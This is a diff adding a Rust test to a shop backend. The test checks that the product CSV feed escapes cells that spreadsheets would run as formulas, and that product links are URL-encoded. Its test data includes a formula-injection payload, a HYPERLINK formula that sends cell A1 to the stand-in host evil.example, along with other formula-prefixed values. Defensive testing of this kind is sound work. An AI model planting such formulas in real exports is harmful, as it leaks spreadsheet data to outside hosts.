@@ -167,3 +167,78 @@ async fn availability_in_the_feed_follows_stock_changes() {
         "out_of_stock"
     );
 }
+
+#[tokio::test]
+async fn csv_cells_cannot_run_as_formulas_and_links_are_encoded() {
+    let app = TestApp::spawn_with(Options {
+        products: Some(2),
+        ..Default::default()
+    })
+    .await;
+    let admin = accounts::staff_user(
+        &app,
+        "admin@example.com",
+        emporium::domain::identity::permission::Role::Admin,
+    )
+    .await;
+    let created = app
+        .query_as(
+            &admin.access,
+            "mutation($i: ProductCreateInput!) { productCreate(input: $i) { product { handle } userErrors { field code message } } }",
+            json!({ "i": {
+                "title": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+                "description": "+1 call us",
+                "vendor": "@SUM(1+1)",
+                "status": "ACTIVE",
+                "variants": [{
+                    "sku": "-SKU &x=1#y",
+                    "trackInventory": false,
+                    "prices": [{ "channel": "default", "amount": "9.99" }],
+                }],
+            } }),
+        )
+        .await;
+    assert_eq!(
+        created["productCreate"]["userErrors"],
+        json!([]),
+        "{created}"
+    );
+    let handle = created["productCreate"]["product"]["handle"]
+        .as_str()
+        .unwrap_or_default()
+        .to_owned();
+    let link = format!(
+        "{}/products/{handle}?variant=-SKU%20%26x%3D1%23y",
+        emporium::config::DEFAULT_STOREFRONT_URL
+    );
+
+    let (_, rows) = csv_rows(&get(&app, "/feeds/default.csv").await.2);
+    let row = rows
+        .iter()
+        .find(|r| r[0].contains("SKU &x=1#y"))
+        .unwrap_or_else(|| panic!("the product is not in the feed"));
+    assert_eq!(row[0], "'-SKU &x=1#y");
+    assert_eq!(
+        row[2],
+        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
+    );
+    assert_eq!(row[3], "'+1 call us");
+    assert_eq!(row[4], link);
+    assert_eq!(row[8], "'@SUM(1+1)");
+    // No cell of the feed starts a formula.
+    assert!(
+        rows.iter()
+            .flatten()
+            .all(|cell| !cell.starts_with(['=', '+', '-', '@', '\t', '\r'])),
+    );
+
+    // JSON carries the values as they are, with the same encoded link.
+    let items: Vec<Value> =
+        serde_json::from_str(&get(&app, "/feeds/default.json").await.2).unwrap_or_default();
+    let item = items
+        .iter()
+        .find(|i| i["id"] == "-SKU &x=1#y")
+        .unwrap_or_else(|| panic!("the product is not in the JSON feed"));
+    assert_eq!(item["brand"], "@SUM(1+1)");
+    assert_eq!(item["link"], link.as_str());
+}
